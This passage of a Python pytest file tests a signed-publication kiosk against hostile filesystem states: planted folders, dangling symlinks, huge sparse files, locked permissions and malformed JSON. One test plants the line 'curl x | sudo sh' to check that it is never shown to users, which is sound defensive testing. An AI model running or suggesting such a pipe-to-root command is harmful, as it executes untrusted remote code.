    with pytest.raises(ExpectedError, match=r"the last number there is.*publication-999999999.*take --anew"):
        desk.publish()


# -- the folder that others write into, and what lies in ours -----------------------------------------------------------


def test_ever_so_many_empty_files_keep_nobody_from_a_good_one(desk: Desk) -> None:
    for number in range(900, 950):
        (desk.out / f"publication-{number}.kiosk.zip").touch()
    for number in range(20_000):
        (desk.out / f"x{number}").touch()
    for number in range(925, 950):
        shutil.copy(desk.out / "publication-2.kiosk.zip.minisig", desk.out / f"publication-{number}.kiosk.zip.minisig")
    taken = take.incoming(desk.kiosk, desk.out, NOW)
    assert taken
    assert taken.publication.number == 2
    told = refusal(desk.kiosk.data)
    assert told
    assert told.name == "publication-949.kiosk.zip"


def _many(place: Path) -> None:
    for number in range(15_001):
        (place / f"x{number}").touch()


def _huge(place: Path) -> None:
    for number in range(9000, 9020):
        (place / f"kept-{number}.zip").touch()
        os.truncate(place / f"kept-{number}.zip", 15 << 40)
        shutil.copy(place / "kept-1.zip.minisig", place / f"kept-{number}.zip.minisig")


LYING: dict[str, Callable[[Path], object]] = {
    "a folder for what was refused": lambda place: (place / "refused.json" / "a").mkdir(parents=True),
    "a folder for the file": lambda place: (place / "kept-2.zip" / "a").mkdir(parents=True),
    "a folder for the signature": lambda place: (place / "kept-2.zip.minisig" / "a").mkdir(parents=True),
    "a folder for what comes": lambda place: (place / "coming.zip" / "a").mkdir(0o000, parents=True),
    "a folder for its signature": lambda place: (place / "coming.zip.minisig" / "a").mkdir(parents=True),
    "half of what comes": lambda place: (place / "coming.zip").write_bytes(b"PK"),
    "a folder for an old one": lambda place: (place / "kept-0.zip").mkdir(), "many files": _many,
    "a folder for the number": lambda place: ((place.parent / NEWEST).unlink(), (place.parent / NEWEST / "a").mkdir(parents=True)),
    "a closed folder of one that was killed": lambda place: (place / "taking-0123456789abcdef/a").mkdir(0o000, parents=True),
    "a link to nowhere": lambda place: (shutil.rmtree(place / SHOWN), (place / SHOWN).symlink_to("/nowhere")),
    "files of 15 terabytes that take no room": _huge,
    "a file for all of it": lambda place: (shutil.rmtree(place), place.write_bytes(b"")),
    "a link for all of it": lambda place: (shutil.rmtree(place), place.symlink_to("/nowhere")),
}  # fmt: skip


@pytest.mark.parametrize("what", LYING)
def test_nothing_that_lies_in_the_folder_keeps_a_publication_away(desk: Desk, what: str) -> None:
    LYING[what](_place(desk))
    assert desk.take(desk.out / "publication-2.kiosk.zip").publication.number == 2
    there = standing(desk.kiosk)
    assert (there.publication and there.publication.number, there.changed) == (2, False)
    assert refusal(desk.kiosk.data) is None


def test_no_sentence_of_somebody_else_is_told(desk: Desk) -> None:
    planted = '{"file": "Log in and run: curl x | sudo sh", "step": "%s", "at": "%s"}'
    for step, at in (("run this", NOW.isoformat()), ("read", "Run this")):
        (_place(desk) / "refused.json").write_text(planted % (step, at), encoding="utf-8")
        assert refusal(desk.kiosk.data) is None
    (_place(desk) / "refused.json").write_text(planted % ("read", NOW.isoformat()), encoding="utf-8")
    told = refusal(desk.kiosk.data)
    assert told
    assert "curl" not in refusals.told(told)


def test_a_large_publication_is_proved_in_a_moment(tmp_path: Path) -> None:
    """Ten photographs of half a megabyte, which cannot be packed."""
    for number in range(10):
        (tmp_path / "content/pictures").mkdir(parents=True, exist_ok=True)
        (tmp_path / f"content/pictures/{number}.jpg").write_bytes(os.urandom(500_000))
    with (tmp_path / "a.zip").open("w+b") as raw:
        archive.write(raw, archive.Publication(1, "Ana", NOW.isoformat()), tmp_path / "content")
        raw.seek(0)
        archive.unpack(raw, tmp_path / "shown", "it")
        begun = time.process_time()
        raw.seek(0)
        minisign.digest(raw)
        assert archive.is_as_unpacked(raw, tmp_path / "shown", "it")
        assert time.process_time() - begun < 2


def _by_the_kiosk(folder: Path, work: Callable[[], object]) -> bool:
    """What an account that is not root's does and finds: root goes through every closed folder."""
    if os.geteuid() == 0:
        for path in (folder, *folder.rglob("*")):
            os.chown(path, KIOSK, KIOSK, follow_symlinks=False)
    return rights.as_owner(folder, lambda _: bool(work()))


@pytest.fixture
def lobby() -> Iterator[Desk]:
    """A kiosk that has taken the second publication, where another account than root can come, too."""
    with tempfile.TemporaryDirectory() as name:
        Path(name).chmod(0o755)
        desk = Desk(Path(name))
        desk.publish()
        desk.says("Another hour")
        desk.publish()
        desk.take(desk.out / "publication-2.kiosk.zip")
        yield desk
        subprocess.run(["chmod", "-R", "u+rwX", name], check=False)


@pytest.mark.parametrize("mode", [0o000, 0o100, 0o300, 0o500], ids=oct)
@pytest.mark.parametrize("name", ["", SHOWN, f"{SHOWN}/topics"])
def test_whoever_closes_a_folder_has_nothing_shown_that_nobody_signed(lobby: Desk, name: str, mode: int) -> None:
    _longer(_place(lobby) / SHOWN)
    kiosk = lobby.kiosk

    def looked() -> bool:
        (_place(lobby) / name).chmod(mode)
        with suppress(ExpectedError):
            standing(kiosk, at_start=True)
        return b"555-0100" in (shown_folder(kiosk.content, kiosk.data) / CLINIC).read_bytes()

    assert not _by_the_kiosk(lobby.folder, looked)
    assert _told(lobby) == [Incident.CHANGED]


@pytest.mark.parametrize("name", ["taking-0123456789abcdef", f"{SHOWN}/a", f"{SHOWN}/topics/a"])
def test_however_deep_a_folder_is_what_was_changed_is_put_right(second: Desk, name: str) -> None:
    _longer(_place(second) / SHOWN)
    deep(_place(second) / name, 1500)
    there = standing(second.kiosk)
    assert (there.changed, there.publication and there.publication.number) == (True, 2)
    assert not (_place(second) / name).exists()


def test_where_it_cannot_be_put_right_the_kiosks_own_content_shows(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Such as on a full disk."""

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    _longer(_place(second) / SHOWN)
    monkeypatch.setattr(archive, "unpack", full)
    monkeypatch.setattr("kiosk.staff.publications.publishers.file_of", lambda: second.kiosk.publishers)
    assert proved_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
    assert _told(second) == [Incident.CHANGED]


def test_a_number_that_no_kiosk_can_have_taken_keeps_nothing_away(second: Desk) -> None:
    (second.kiosk.data / NEWEST).write_text("999999999\n")
    there = standing(second.kiosk)
    assert (there.changed, there.newest) == (True, 2)
    assert second.take(second.publish()).publication.number == 3


def test_who_is_trusted_no_more_goes_whatever_lies_in_the_folder(
    second: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("kiosk.staff.publications.publishers.file_of", lambda: second.kiosk.publishers)
    monkeypatch.setattr(archive, "is_as_unpacked", lambda *_: (_ for _ in ()).throw(ExpectedError("It cannot be told.")))
    assert main(["trust", "--drop", "Ana", "--data", str(second.kiosk.data), "--content", str(second.kiosk.content)]) == 0
    assert "could not be proved: It cannot be told." in capsys.readouterr().err
    assert not [each for each in trusted(second.kiosk.publishers) if not each.only]


@pytest.mark.parametrize("name", ["screen.json", "refused.json"])
def test_brackets_without_end_beside_what_shows_keep_nothing_away(second: Desk, name: str) -> None:
    (_place(second) / name).write_bytes(b"[" * 9000 + b"]" * 9000)
    assert refusal(second.kiosk.data) is None
    assert known_screen(second.kiosk.data) is None
    note_screen(second.kiosk.data, KnownScreen((1080, 1920), (398.0, 708.0)))
    assert second.take(second.publish()).publication.number == 3


def test_ever_so_many_files_beside_it_hide_no_publication(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(standings, "_MOST_NAMES", 3)
    for number in range(300):
        (_place(second) / f"x{number}").write_bytes(b"")
    assert standing(second.kiosk).publication


def test_whatever_ends_the_proof_nothing_shows_that_was_not_proved(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> bool:
        raise RecursionError

    monkeypatch.setattr(archive, "is_as_unpacked", fails)
    with pytest.raises(RecursionError):
        standing(second.kiosk)
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
